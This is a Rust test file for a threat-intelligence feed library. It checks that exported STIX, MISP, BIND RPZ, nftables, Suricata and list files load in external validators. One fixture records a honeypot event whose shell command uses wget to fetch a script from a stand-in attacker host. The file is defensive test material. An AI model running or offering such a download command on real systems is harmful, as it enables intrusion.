//! Other software reads the files: OASIS's validator and library, PyMISP, BIND, nftables, suricata-check. Each test runs
//! only where the software is; the gate has all of it.

#![allow(
    clippy::unwrap_used,
    reason = "clippy sees helpers of a test as no test"
)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use common::{good, head, item, items, python, run};
use cybexp_share::misp::{self, MispEvent};
use cybexp_share::stix::{Creator, ObservedEvent, ObservedSession, StixBundle};
use cybexp_share::{FeedHead, FeedWriter, Tlp, format, misp_hashes};
use serde_json::{Value, json};
use tempfile::TempDir;
use test_needs::Need;

fn saved(dir: &TempDir, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
    let path = dir.path().join(name);
    std::fs::write(&path, content).unwrap();
    path
}

fn written(dir: &TempDir, extension: &str) -> String {
    let (file, _) = FeedWriter::whole(format(extension).unwrap(), &head(), &items());
    let path = saved(dir, &format!("attackers.{extension}"), file);
    path.to_str().unwrap().to_owned()
}

/// OASIS's validator, with all checks of what the specification recommends; then OASIS's library reads all objects.
const CHECK_STIX: &str = r#"
import sys, json
from stix2validator import validate_file, ValidationOptions
options = ValidationOptions(strict=True, version="2.1", strict_types=False)
bad = []
for path in sys.argv[1:]:
    results = validate_file(path, options)
    for result in results.object_results:
        bad += [str(e) for e in (result.errors or [])] + [str(w) for w in (result.warnings or [])]
    if results.fatal: bad.append(str(results.fatal))
    if not results.is_valid: bad.append(path + " is not valid")
    import stix2
    bundle = stix2.parse(open(path).read(), allow_custom=True)
    # the library makes the ids of observables itself
    for o in bundle.objects:
        if o["type"] in ("ipv4-addr", "ipv6-addr", "domain-name", "url", "email-addr", "file", "user-account", "mutex"):
            own = {k: v for k, v in json.loads(o.serialize()).items() if k != "id"}
            made = stix2.parse(own, version="2.1")
            if made["id"] != o["id"]: bad.append("%s should be %s" % (o["id"], made["id"]))
    print(len(bundle.objects), json.dumps(sorted(set(o["type"] for o in bundle.objects))))
print("\n".join(bad[:40]), file=sys.stderr)
sys.exit(1 if bad else 0)
"#;

fn check_stix(paths: &[&str]) -> Option<String> {
    let out = python("import stix2, stix2validator", CHECK_STIX, paths)?;
    Some(good(&out))
}

#[test]
fn oasis_validates_the_bundle_of_a_feed() {
    let dir = TempDir::new().unwrap();
    let path = written(&dir, "stix.json");
    let bundle: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let ids = bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["id"].to_string());
    assert!(ids.count() > 50);
    check_stix(&[&path]);
}

fn answer() -> Value {
    let data = json!({
        "attacker": [{"ipv4": ["203.0.113.9"]}],
        "credential": [{"username": ["root"], "password": ["it's \\ \"x\""]}],
        "file": [{"filename": ["x.sh"], "sha256": ["e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
                  "md5": ["d41d8cd98f00b204e9800998ecf8427e"]}],
        "shell_command": ["wget http://evil.example/x.sh; echo 'a'"],
        "url": ["http://evil.example/x.sh"], "hostname": ["evil.example"], "hassh": ["92674389fa1e47a27ddd8d9b63ecd42b"],
        "success": [true], "port": [22],
    });
    let known_by = json!({"sessionid": ["c0ffee"], "sensor": ["london"]});
    let hash = "5f07a6f2".repeat(8);
    let mut bundle = StixBundle::new(Creator::new("Example Org", 1_764_000_000.0), Tlp::Amber);
    let event = ObservedEvent {
        hash: &hash,
        sub_type: "file_download",
        timestamp: 1_764_100_000.25,
        data: data.as_object().unwrap(),
    };
    let seen = bundle
        .add_event(&event, |sub_type, _| sub_type != "success")
        .unwrap();
    let again = bundle.add_event(&event, |_, _| true).unwrap();
    assert_eq!(seen, again, "the same event is the same object");
    let session = ObservedSession {
        hash: &"22af38a8".repeat(8),
        sub_type: "cowrie_session",
        times: (1_764_100_000.0, 1_764_100_060.0),
        data: known_by.as_object().unwrap(),
    };
    bundle.add_session(&session, &[seen]).unwrap();
    bundle.add_verdict(
        ("ipv4", &"203.0.113.9".into()),
        "false_positive",
        "our scanner",
        1_764_200_000.0,
    );
    bundle.add_attribute("asn", &64_500_i64.into());
    bundle.end()
}

#[test]
fn oasis_validates_an_answer() {
    let bundle = answer();
    assert_eq!(bundle, answer(), "the same answer has the same ids");
    let objects = bundle["objects"].as_array().unwrap();
    let ids: BTreeSet<&str> = objects.iter().map(|o| o["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), objects.len(), "each object is there once");
    // every reference leads to an object of the bundle
    for object in objects {
        for (name, value) in object.as_object().unwrap() {
            let all = value
                .as_array()
                .map_or(std::slice::from_ref(value), Vec::as_slice);
            if name.ends_with("_ref") || name.ends_with("_refs") {
                for reference in all {
                    assert!(
                        ids.contains(reference.as_str().unwrap()),
                        "{name} {reference}"
                    );
                }
            }
        }
    }
    let dir = TempDir::new().unwrap();
    let path = saved(&dir, "answer.json", bundle.to_string());
    let Some(told) = check_stix(&[path.to_str().unwrap()]) else {
        return;
    };
    for kind in [
        "indicator",
        "sighting",
        "observed-data",
        "grouping",
        "opinion",
        "user-account",
        "x-cybexp-attribute",
    ] {
        assert!(told.contains(kind), "{kind}: {told}");
    }
}

#[test]
fn pymisp_reads_the_feed() {
    let head = FeedHead {
        tlp: Tlp::Green,
        ..head()
    };
    let mut later = item("ipv4", "192.0.2.77");
    later.added += 86_400.0;
    let items: Vec<_> = items().into_iter().chain([later]).collect();
    let mut days: BTreeMap<i64, Vec<_>> = BTreeMap::new();
    for item in &items {
        days.entry(misp::day(item.added)).or_default().push(item);
    }
    assert_eq!(days.len(), 2);
    let dir = TempDir::new().unwrap();
    let (mut manifest, mut hashes) = (serde_json::Map::new(), Vec::new());
    for (day, items) in days {
        let parts = misp::parts(items.len() as u64);
        let event = MispEvent {
            day,
            parts,
            part: 0,
        };
        let (uuid, entry) = event.manifest(&head, 1_764_236_700.0);
        manifest.insert(uuid.clone(), entry);
        let file = event.file(&head, 1_764_236_700.0, items.iter().copied());
        saved(&dir, &format!("{uuid}.json"), file.to_string());
        let mut writer = misp_hashes(&head, [(day, parts)].into());
        for item in &items {
            hashes.extend(writer.push(item).into_iter().flatten());
        }
        hashes.extend(writer.end().0);
    }
    saved(&dir, "manifest.json", Value::Object(manifest).to_string());
    saved(&dir, "hashes.csv", hashes);
    const CHECK: &str = r#"
import sys, json, hashlib, pathlib
from pymisp import MISPEvent
folder = pathlib.Path(sys.argv[1])
manifest = json.loads((folder / "manifest.json").read_text())
hashes = set(tuple(line.split(",")) for line in (folder / "hashes.csv").read_text().split())
seen = set(); count = 0
for uuid, entry in manifest.items():
    event = MISPEvent(strict_validation=True)
    event.load_file(folder / (uuid + ".json"))
    assert event.uuid == uuid and event.info == entry["info"] and event.Orgc.name == "Example Org"
    assert str(int(event.timestamp.timestamp())) == entry["timestamp"]
    assert [t.name for t in event.tags] == ["tlp:green"], event.tags
    # as PyMISP's own generator makes the manifest
    assert set(event.manifest[uuid]) - {"extends_uuid"} <= set(entry) | {"extends_uuid"}, (event.manifest, entry)
    for attribute in event.attributes:
        count += 1
        assert not attribute.first_seen is None
        for value in attribute.value.split("|") if "|" in attribute.type else [attribute.value]:
            seen.add((hashlib.md5(str(value).encode()).hexdigest(), uuid))
assert seen == hashes, (seen ^ hashes)
print(len(manifest), count)
"#;
    let path = dir.path().to_str().unwrap();
    if let Some(out) = python("import pymisp", CHECK, &[path]) {
        let told = good(&out);
        let numbers: Vec<u32> = told
            .split_whitespace()
            .map(|n| n.parse().unwrap())
            .collect();
        assert!(numbers[0] == 2 && numbers[1] > 25, "{told}");
    }
}

#[test]
fn bind_loads_the_zone() {
    let dir = TempDir::new().unwrap();
    let path = written(&dir, "rpz");
    if let Some(out) = run(
        Need::Bind,
        "named-checkzone",
        &["-k", "fail", "rpz.example", &path],
    ) {
        assert!(good(&out).contains("OK"));
    }
}

#[test]
fn nftables_takes_the_script() {
    let dir = TempDir::new().unwrap();
    let path = written(&dir, "nft");
    if let Some(out) = run(Need::Nftables, "/usr/sbin/nft", &["-c", "-f", &path]) {
        let told = String::from_utf8_lossy(&out.stderr).into_owned();
        // a kernel that has no nftables at all is no fault of the script
        if told.contains("cache initialization failed")
            || told.contains("Unable to initialize Netlink")
        {
            Need::Nftables.is_lacking("the kernel has no nftables, or they are another user's");
            return;
        }
        good(&out);
    }
}

#[test]
fn suricata_check_reads_the_rules() {
    let dir = TempDir::new().unwrap();
    let (rules, datasets) = (written(&dir, "rules"), written(&dir, "datasets.rules"));
    const CHECK: &str = r##"
import sys
from suricata_check.utils.rule import parse
n = 0
for path in sys.argv[1:]:
    for line in open(path):
        if line.startswith("#"): continue
        rule = parse(line.strip())
        assert rule is not None and rule.enabled and rule.sid > 2100000000, line
        n += 1
print(n)
"##;
    if let Some(out) = python(
        "import suricata_check.utils.rule",
        CHECK,
        &[&rules, &datasets],
    ) {
        assert_eq!(good(&out).trim(), "29");
    }
}

#[test]
fn python_reads_the_lists() {
    let dir = TempDir::new().unwrap();
    let head = FeedHead {
        comments: false,
        ..head()
    };
    let addresses = [
        item("ipv4", "203.0.113.9"),
        item("ipv6", "2001:db8::9"),
        item("cidr", "198.51.100.0/24"),
    ];
    let mut paths = Vec::new();
    for (extension, items) in [
        ("txt", addresses.to_vec()),
        ("csv", items()),
        ("json", items()),
    ] {
        let (file, _) = FeedWriter::whole(format(extension).unwrap(), &head, &items);
        let path = saved(&dir, &format!("list.{extension}"), file);
        paths.push(path.to_str().unwrap().to_owned());
    }
    let values: Vec<Value> = items().iter().map(|item| json!(item.data)).collect();
    let values = saved(&dir, "values.json", json!(values).to_string());
    paths.push(values.to_str().unwrap().to_owned());
    const CHECK: &str = r##"
import csv, ipaddress, json, sys
txt, table, lines, values = sys.argv[1:]
values = json.load(open(values))
networks = [str(ipaddress.ip_network(line.strip())) for line in open(txt)]
assert networks == ["203.0.113.9/32", "2001:db8::9/128", "198.51.100.0/24"], networks
read = [json.loads(line)["value"] for line in open(lines, encoding="utf-8", newline="\n")]
assert read == values, (read, values)
rows = list(csv.DictReader(open(table, encoding="utf-8", newline=""), strict=True))
texts = [row["value"].removeprefix("'") for row in rows]
assert len(rows) == len(values) and all(None not in row and None not in row.values() for row in rows)
assert [text for text, value in zip(texts, values) if isinstance(value, str) and text != value] == []
print(len(rows))
"##;
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    if let Some(out) = python("import csv, ipaddress, json", CHECK, &paths) {
        assert_eq!(good(&out).trim(), items().len().to_string());
    }
}
